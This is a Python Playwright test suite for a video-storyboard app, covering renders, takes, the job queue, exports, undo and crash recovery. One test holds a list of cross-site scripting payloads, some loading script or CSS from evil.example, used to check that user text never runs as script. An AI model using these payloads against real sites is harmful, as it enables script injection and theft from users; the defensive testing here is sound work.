"""From the button to the film: rendering, takes, the queue, and what happens when things die in between."""

from __future__ import annotations

import json
import os
import re
import signal
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import av
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import OWN_JOB, STORY, Story, opened
from tests.fakes.studio import Studio
from tests.fakes.waiting import until


def render(page: Page) -> None:
    page.locator(".split-button .main").click()


def rendered(page: Page, count: int = 3) -> None:
    expect(page.locator(".clip.is-fresh")).to_have_count(count)


def tab(page: Page, name: str) -> None:
    page.get_by_role("tab", name=name).click()


def test_from_the_first_look_to_the_exported_film(page: Page, story: Story, tmp_path: Path) -> None:
    expect(page.locator(".clip.is-missing")).to_have_count(3)
    expect(page.locator(".split-button .main")).to_contain_text("Render 3")
    render(page)
    rendered(page)
    expect(page.locator(".split-button .main")).to_be_disabled()
    page.locator(".timeline").focus()
    page.keyboard.press("Home")
    page.keyboard.press("Space")
    page.wait_for_function("document.querySelector('.time').textContent.startsWith('00:00:05')")
    page.keyboard.press("k")
    for name, ending in (
        ("Film", ".mp4"),
        ("Subtitles", ".srt"),
        ("Captions", ".vtt"),
        ("Contact sheet", ".png"),
        ("Storyboard", ".yaml"),
        ("Bundle", ".mocz"),
    ):
        page.locator("summary", has_text="Export").click()
        with page.expect_download() as download:
            page.get_by_role("menuitem", name=name, exact=False).first.click()
        target = tmp_path / f"x{ending}"
        download.value.save_as(target)
        assert target.stat().st_size > 0
    with av.open(tmp_path / "x.mp4") as film:
        assert film.streams.video[0].frames == 72
    assert "Otto runs right" in (tmp_path / "x.srt").read_text()


def test_the_plan_tells_the_waves_and_the_time_of_several_workers(page: Page, story: Story) -> None:
    def plan() -> str:
        menu = page.locator(".split-button .menu")
        menu.locator("summary").click()
        expect(menu.locator(".menu-item").first).to_be_visible()
        said = menu.inner_text()
        page.keyboard.press("Escape")
        return said

    assert "One after the other" in plan()
    first, second = (shot["id"] for shot in story.shots[:2])
    story.edit({"op": "steer", "shot": second, "pins": [], "bans": [first], "boosts": {}})
    until(lambda: "in waves" in plan())
    said = plan()
    assert ("Shots 1–2" in said, "Shot 3" in said, "8 workers" in said) == (True, True, True)
    story.edit({"op": "settings", "settings": {"context": "finished"}})
    until(lambda: "none waits for another" in plan())


def test_an_edit_renders_what_it_matters_to(page: Page, story: Story) -> None:
    render(page)
    rendered(page)
    first = {shot["id"]: shot["take"] for shot in story.shots}
    page.locator(".caption").nth(1).click()
    page.locator(".caption textarea").fill("Otto jumps in the forest")
    page.keyboard.press("Enter")
    expect(page.locator(".split-button .main")).to_contain_text("Render 2")
    expect(page.locator(".reasons")).to_contain_text("caption changed")
    render(page)
    until(lambda: [shot["take"] == first[shot["id"]] for shot in story.shots] == [True, False, False])


def test_takes_that_are_no_longer_shown_are_counted_together(page: Page, story: Story) -> None:
    story.render()
    captions = ("Mira sits on the beach", "Otto jumps in the forest")
    for shot, caption in zip(story.shots[:2], captions, strict=True):
        story.edit({"op": "caption", "shot": shot["id"], "caption": caption})
    story.render()
    page.locator(".clip").last.click()
    tab(page, "Takes")
    expect(page.locator(".take").first).to_contain_text("drew on shot 1 50%, shot 2 50%")
    expect(page.locator(".take").last).to_contain_text("drew on 2 older takes 100%")


def test_nothing_moves_on_the_page_while_shots_render(page: Page, story: Story) -> None:
    page.evaluate(
        """() => {
          window.shifts = [];
          window.observer = new PerformanceObserver((list) => window.shifts.push(...list.getEntries()));
          window.observer.observe({ type: "layout-shift" });
        }"""
    )
    render(page)
    rendered(page)
    until(lambda: all(shot["take"] for shot in story.shots))
    shifts = "[...window.shifts, ...window.observer.takeRecords()].map((shift) => shift.value)"
    assert sum(page.evaluate(shifts)) < 0.01


def test_takes_are_chosen_compared_and_deleted(page: Page, story: Story) -> None:
    render(page)
    rendered(page)
    page.locator(".clip").first.click()
    tab(page, "Shot")
    page.get_by_role("button", name="variations").click()
    until(lambda: len(story.shots[0]["takes"]) == 5)
    tab(page, "Takes")
    expect(page.locator(".take")).to_have_count(5)
    page.get_by_role("button", name="Compare").click()
    sheet = page.get_by_role("dialog", name="Two takes side by side")
    expect(sheet.locator("video")).to_have_count(2)
    moments = "() => [...document.querySelectorAll('.pair video')].map((video) => video.currentTime)"
    loaded = "() => [...document.querySelectorAll('.pair video')].every((video) => video.readyState > 1)"
    until(lambda: page.evaluate(loaded))
    sheet.get_by_label("Moment").fill("0.5")
    until(lambda: page.evaluate(moments)[0] > 0.5 and len(set(page.evaluate(moments))) == 1)
    sheet.get_by_label("Right take", exact=True).select_option(index=2)
    page.keyboard.press("Escape")
    expect(sheet).to_have_count(0)
    before = story.shots[0]["take"]
    page.locator(".take:not(.chosen)").last.get_by_role("button", name="Use this take").click()
    until(lambda: story.shots[0]["take"] != before)
    page.locator(".timeline").focus()
    chosen = story.shots[0]["take"]
    page.keyboard.press("]")
    until(lambda: story.shots[0]["take"] != chosen)
    page.locator(".take.chosen").get_by_role("button", name="Delete take").click()
    expect(page.locator(".take")).to_have_count(4)
    expect(page.locator(".clip").first).to_have_class(re.compile("is-fresh"))  # back at the one it asks for
    page.locator(".timeline").focus()
    page.keyboard.press("Control+z")
    expect(page.locator(".take")).to_have_count(5)


@pytest.fixture
def paused(story: Story) -> Iterator[None]:
    """The queue, which other tests share, goes on whatever becomes of the test."""
    yield
    story.studio.resume()


@pytest.mark.usefixtures("paused")
def test_the_queue_is_paused_reordered_and_cancelled(page: Page, story: Story) -> None:
    tab(page, "Queue")
    page.get_by_role("button", name="Pause queue").click()
    expect(page.get_by_role("button", name="Resume queue")).to_be_visible()
    render(page)
    jobs = page.locator(f"{OWN_JOB}.is-queued")
    expect(jobs).to_have_count(3)
    jobs.nth(1).get_by_role("button", name="Move up").click()
    expect(jobs.first).to_contain_text("shot 2")
    jobs.nth(0).get_by_role("button", name="Cancel").click()
    cancelled = page.locator(f"{OWN_JOB}.is-cancelled")
    expect(cancelled.nth(1)).to_contain_text("it builds on shot 2, which was cancelled")
    cancelled.nth(0).get_by_role("button", name="Try again").click()
    expect(jobs).to_have_count(3)
    jobs.nth(2).get_by_role("button", name="Cancel").click()
    expect(cancelled).to_contain_text("shot 3")
    expect(page.locator(OWN_JOB).first).to_contain_text("final · animatic")
    page.get_by_role("button", name="Resume queue").click()
    until(lambda: [shot["state"] for shot in story.shots][:2] != ["missing", "missing"])
    cancelled.get_by_role("button", name="Try again").click()
    until(lambda: all(shot["take"] for shot in story.shots))
    page.get_by_role("button", name="Clear finished").click()
    expect(page.locator(OWN_JOB)).to_have_count(0)


def test_a_preview_carries_the_caption_of_the_shot_that_renders(page: Page, story: Story) -> None:
    story.edit({"op": "caption", "shot": story.shots[1]["id"], "caption": "Otto is held in the forest"})
    page.locator(".timeline .clip").nth(1).click()
    page.keyboard.press("Home")
    expect(page.locator(".player-message")).to_have_text("Shot 1 is not rendered yet.")
    expect(page.locator(".player-caption")).to_have_text("")
    with story.studio.held():
        page.locator(".shot-panel").get_by_role("button", name="Render", exact=True).click()
        expect(page.locator("img.live")).to_be_visible()
        expect(page.locator(".player-caption")).to_have_text("Otto is held in the forest")
    expect(page.locator("img.live")).to_be_hidden()
    expect(page.locator(".player-caption")).to_have_text("")


def test_a_reload_and_a_second_tab_show_the_render_that_runs(browser: Browser, tmp_path: Path) -> None:
    studio = Studio(tmp_path / "studio")
    try:
        story = Story(studio, STORY.replace("waves", "is held"))
        with studio.held(), opened(browser, story.url) as first:
            render(first)
            expect(first.locator(".clip.is-running")).to_have_count(1)
            first.reload()
            expect(first.locator(".clip.is-running")).to_have_count(1)
            with opened(browser, story.url) as second:
                expect(second.locator(".clip.is-running, .clip.is-queued")).not_to_have_count(0)
                second.locator(".caption").first.click()
                second.locator(".caption textarea").fill("Mira sits in the meadow")
                second.keyboard.press("Enter")
                expect(first.locator(".caption").first).to_have_text("Mira sits in the meadow")
    finally:
        studio.stop()


def test_killed_worker_and_web_process_lose_nothing(browser: Browser, tmp_path: Path) -> None:
    studio = Studio(tmp_path / "killed", step_seconds=0.3)
    try:
        story = Story(studio, STORY.replace("waves", "is held"))
        with opened(browser, story.url) as page:
            with studio.held():
                render(page)
                expect(page.locator(".clip.is-running")).to_have_count(1)
                os.kill(studio.workers()[0], signal.SIGKILL)
                page.locator(".caption").nth(2).click()
                page.locator(".caption textarea").fill("Mira and Otto wave on the beach")
                page.keyboard.press("Enter")
                until(lambda: story.shots[2]["caption"] == "Mira and Otto wave on the beach")
            until(lambda: any(shot["take"] for shot in story.shots))
            studio.kill()
            studio.start()
            rendered(page)
        assert story.shots[2]["caption"] == "Mira and Otto wave on the beach"
        jobs = _get(f"{studio.url}/api/queue")["jobs"]
        assert [job["state"] for job in jobs] == ["done", "done", "done"]
        film = tmp_path / "film.mp4"
        with urllib.request.urlopen(f"{studio.url}/api/projects/{story.id}/export/film.mp4") as answer:
            film.write_bytes(answer.read())
        with av.open(film) as opened_film:
            assert opened_film.streams.video[0].frames == 72
    finally:
        studio.stop()


def _get(url: str) -> Any:
    with urllib.request.urlopen(url) as answer:
        return json.load(answer)


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    '"><script src=https://evil.example/x.js></script>',
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<video><source onerror=alert(1)></video>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "`${alert(1)}`",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data='javascript:alert(1)'>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button>x",
)


@pytest.mark.parametrize("where", ["captions", "others"])
def test_text_runs_no_script(browser: Browser, running: Studio, where: str) -> None:
    if where == "captions":
        shots = [{"caption": f"{text} {number}"} for number in range(2) for text in HOSTILE]
        text = json.dumps({"title": "Hostile", "size": "128x72", "shots": shots})
    else:
        cast = [{"name": f"A{i} {t}"[:40], "look": t} for i, t in enumerate(HOSTILE[:8])]
        text = json.dumps(
            {"title": HOSTILE[1], "style": HOSTILE[0], "cast": cast, "shots": [{"caption": "x"}]}
        )
    with opened(browser, Story(running, text).url) as page:
        if where == "captions":
            page.locator(".caption").first.click()
            page.keyboard.press("Escape")
        page.locator("summary", has_text="Export").click()
        page.locator(".project-name summary").click()
        for name in ("Takes", "Queue", "Shot"):
            tab(page, name)
        page.evaluate("() => new Promise((done) => requestIdleCallback(done))")
        assert page.locator(".timeline script, .timeline img, .bar script").count() == 0


def test_a_bundle_is_taken_out_and_in_again(page: Page, story: Story, tmp_path: Path) -> None:
    render(page)
    rendered(page)
    page.locator("summary", has_text="Export").click()
    with page.expect_download() as download:
        page.get_by_role("menuitem", name="Bundle").click()
    download.value.save_as(tmp_path / "story.mocz")
    page.locator(".project-name summary").click()
    page.locator(".menu-body input[type=file]").set_input_files(tmp_path / "story.mocz")
    page.wait_for_function(f"location.hash.slice(1) !== '{story.id}'")
    rendered(page)


def test_an_earlier_take_comes_back_with_undo(page: Page, story: Story) -> None:
    render(page)
    rendered(page)
    first = [shot["take"] for shot in story.shots]
    page.locator(".caption").first.click()
    page.locator(".caption textarea").fill("Mira jumps in the meadow")
    page.keyboard.press("Enter")
    expect(page.locator(".split-button .main")).to_contain_text("Render 3")
    render(page)
    until(lambda: all(a != b["take"] for a, b in zip(first, story.shots, strict=True)))
    page.locator(".timeline").focus()
    page.keyboard.press("Control+z")
    until(lambda: [shot["take"] for shot in story.shots] == first)
    rendered(page)
